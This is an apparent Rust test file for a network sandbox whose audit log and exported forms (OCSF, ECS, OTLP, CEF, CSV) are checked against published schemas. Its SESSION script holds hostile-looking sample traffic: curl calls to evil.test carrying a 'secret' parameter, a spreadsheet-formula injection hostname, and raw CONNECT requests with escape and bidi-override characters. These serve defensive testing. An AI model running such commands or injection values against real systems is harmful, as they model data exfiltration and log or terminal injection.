//! The record and its exported forms, held to what is published of them: real lines of a real run, and hostile ones.
//! Clauses: R4.

use anyhow::{Context, Result};
use harness::for_each_user;
use harness::order::Order;
use harness::project::{Project, USUAL};
use harness::world::{Call, World};
use serde_json::Value;

/// What a session does of each kind, hostile names and methods among it.
const SESSION: &str = r#"
curl -s https://ok.test/ >/dev/null; curl -s http://ok.test/ >/dev/null
curl -s https://evil.test/; curl -s -X 'P=|\$' "http://evil.test/?secret=1"
curl -s -x "$http_proxy" "http://=cmd|calc.evil.test/"
env -i getent hosts evil.test; env -i curl -s --max-time 2 https://11.22.33.66/
python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"x", ("11.22.33.66", 443))'
python3 - <<'END'
import os, socket
host, port = os.environ["http_proxy"].split("//")[1].rstrip("/").rsplit(":", 1)
for target in [b"\xff\xfe.evil.test:443", b"a\x1b[2J.evil.test:443", "\u202e.evil.test:443".encode(), b"a,b\"c:443"]:
    s = socket.create_connection((host, int(port)))
    s.sendall(b"CONNECT " + target + b" HTTP/1.1\r\nHost: x\r\n\r\n")
    s.recv(4096)
END
true
"#;

/// Validates what a command prints; how many lines of each kind it had.
fn held(project: &Project<'_>, produce: &[&str], arguments: &[&str]) -> Result<Value> {
    let printed = project.ocs(produce)?.succeeded()?;
    let words = [&["/usr/bin/python3", "validate.py"], arguments].concat();
    let finished = project.call(Call::new(&words).fed(&printed.stdout))?;
    let counts = finished.succeeded()?;
    let last = counts.stdout.lines().last().context("no counts")?;
    Ok(serde_json::from_str(last)?)
}

fn has(counts: &Value, kinds: &[&str]) {
    for kind in kinds {
        assert!(
            counts[kind].as_u64().is_some_and(|count| count > 0),
            "no {kind}: {counts}"
        );
    }
}

/// Puts what lines are held to into the project.
fn forms(project: &Project<'_>) -> Result<()> {
    let own = project
        .ocs(&["policy", "schema", "--record"])?
        .succeeded()?;
    for (name, content) in [
        ("validate.py", include_str!("../schemas/validate.py")),
        ("ocsf.json", include_str!("../schemas/ocsf-1.3.0.json")),
        ("otlp.json", include_str!("../schemas/otlp-1.5.json")),
        ("ecs.json", include_str!("../schemas/ecs-8.11.json")),
        ("record.json", &own.stdout),
    ] {
        project.write(name, content)?;
    }
    Ok(())
}

/// Holds a record to its schema and to every form that it is exported in: each event is one line of each.
fn every_form(project: &Project<'_>, record: &str) -> Result<Value> {
    project.write("example.jsonl", record)?;
    let query = ["audit", "query", "--json", "example.jsonl"];
    let counts = held(project, &query, &["record", "record.json"])?;
    let events = record.lines().count() as u64;
    let lines = |counts: &Value| {
        let counts = counts.as_object().into_iter().flatten();
        counts.filter_map(|(_, count)| count.as_u64()).sum::<u64>()
    };
    assert_eq!(lines(&counts), events);
    for (format, more) in [
        ("ocsf", &["ocsf.json"][..]),
        ("ecs", &["ecs.json"]),
        ("otlp", &["otlp.json"]),
        ("cef", &[]),
    ] {
        let words = ["audit", "export", "--format", format, "example.jsonl"];
        let exported = held(project, &words, &[&[format], more].concat())?;
        assert_eq!(lines(&exported), events, "{format}");
    }
    let query = ["audit", "query", "--csv", "example.jsonl"];
    let table = held(project, &query, &["csv"])?;
    assert_eq!(lines(&table), events + 1, "csv and its header");
    let shown = project.ocs(&["audit", "query", "example.jsonl"])?;
    let shown = shown.succeeded()?.stdout;
    let unseen = |character: char| {
        character.is_control()
            || "\u{200b}\u{2028}\u{2029}\u{202e}\u{2066}\u{feff}".contains(character)
    };
    assert_eq!(shown.lines().count() as u64, events, "{shown}");
    assert!(
        !shown.lines().any(|line| line.contains(unseen)),
        "{shown:?}"
    );
    Ok(counts)
}

for_each_user! {
    fn every_line_of_a_real_run_fits_the_published_schema_and_every_exported_form_its_own(who) {
        let world = World::new(&Order::usual()?)?;
        let project = Project::new(&world, who, USUAL)?;
        project.run(&["sh", "-c", SESSION])?;
        forms(&project)?;
        let query = ["audit", "query"];
        let export = |format| ["audit", "export", "--format", format];
        let counts = held(&project, &[&query[..], &["--json"]].concat(), &["record", "record.json"])?;
        has(&counts, &["start", "policy", "request", "close", "packet", "dns", "stop"]);
        let all: u64 = counts.as_object().context("counts")?.values().filter_map(Value::as_u64).sum();
        let ocsf = held(&project, &export("ocsf"), &["ocsf", "ocsf.json"])?;
        has(&ocsf, &["600203", "600204", "400101", "400105", "400102", "400203", "400301", "99"]);
        let ecs = held(&project, &export("ecs"), &["ecs", "ecs.json"])?;
        has(&ecs, &["start", "stop", "policy", "request-allow", "request-deny", "close", "dns-deny", "packet-deny"]);
        let cef = held(&project, &export("cef"), &["cef"])?;
        has(&cef, &["start", "stop", "policy", "request.allow", "request.deny", "close", "dns.deny", "packet.deny"]);
        let otlp = held(&project, &export("otlp"), &["otlp", "otlp.json"])?;
        has(&otlp, &["ocs.start", "ocs.stop", "ocs.request", "ocs.close", "ocs.dns", "ocs.packet"]);
        let csv = held(&project, &[&query[..], &["--csv"]].concat(), &["csv"])?;
        has(&csv, &["header", "request", "close"]);
        for counts in [&ocsf, &ecs, &cef, &otlp] {
            let lines: u64 = counts.as_object().context("counts")?.values().filter_map(Value::as_u64).sum();
            assert_eq!(lines, all, "{counts}");
        }
        Ok(())
    }

    fn the_example_of_every_event_fits_every_form(who) {
        let world = World::new(&Order::usual()?)?;
        let project = Project::new(&world, who, USUAL)?;
        forms(&project)?;
        let page = include_str!("../../docs/audit-log.md");
        let example = page.split("```jsonl\n").nth(1).and_then(|rest| rest.split("```").next());
        let counts = every_form(&project, example.context("no example")?)?;
        has(&counts, &["start", "policy", "request", "close", "question", "packet", "dns", "gap", "stop"]);
        Ok(())
    }

    fn hostile_text_in_every_field_of_every_event_fits_every_form(who) {
        let world = World::new(&Order::usual()?)?;
        let project = Project::new(&world, who, USUAL)?;
        forms(&project)?;
        let counts = every_form(&project, include_str!("../schemas/hostile.jsonl"))?;
        has(&counts, &["start", "policy", "request", "close", "question", "packet", "dns", "gap", "stop"]);
        Ok(())
    }
}
